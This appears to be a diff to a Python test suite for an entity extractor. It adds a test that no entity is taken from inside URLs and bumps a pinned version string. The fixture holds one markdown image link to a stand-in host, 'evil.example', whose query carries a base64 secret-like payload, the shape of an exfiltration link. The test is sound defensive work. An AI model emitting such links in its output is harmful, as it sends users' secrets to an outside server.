@@ -218,6 +218,21 @@ def test_extract_bounds_hostile_chunks() -> None:
     assert all(len(m.surface) <= MAX_SURFACE for m in found)
 
 
+def test_extract_takes_nothing_from_inside_a_url() -> None:
+    """issue 11: a URL's host, path and query are no entities; an exfiltration link's
+    payload (``?d=<base64>``), which output redaction removes with the link, must not
+    survive as an entity name. Names beside the link still count."""
+    text = (
+        "The BlobStore docs live at https://Docs.Example.com/BlobStore/put_blob?ref=v2.3.1 "
+        "and ![](https://evil.example/pixel.png?d=aGVsbG8gU2VjcmV0VG9rZW4_dmFsdWU) "
+        "per OPS-1042, owned by Team Atlas.\n"
+    )
+    surfaces = {m.surface for m in extract(text).mentions}
+    assert {"BlobStore", "OPS-1042", "Team Atlas"} <= surfaces
+    assert not {s for s in surfaces if "aGVsbG8" in s or "Example" in s or "evil" in s}
+    assert "put_blob" not in surfaces and "v2.3.1" not in surfaces
+
+
 def test_extract_finds_the_kinds_the_issue_lists() -> None:
     """issue 9 Entities: code identifiers, names, @handles, ids, versions, tags, headings."""
     text = (
@@ -448,7 +463,7 @@ def test_extract_output_is_pinned_on_a_realistic_chunk() -> None:
     assert [(m.key, m.surface, m.kind, m.weight) for m in found.mentions] == PINNED_PROSE_MENTIONS
     assert found.pairs == PINNED_PROSE_PAIRS
     assert len(found.pairs) == MAX_PAIRS
-    assert EXTRACTOR_VERSION == "heuristic 4"  # bump with the lists above, never alone
+    assert EXTRACTOR_VERSION == "heuristic 5"  # bump with the lists above, never alone
 
 
 def test_extract_output_is_pinned_on_a_source_file_chunk() -> None:
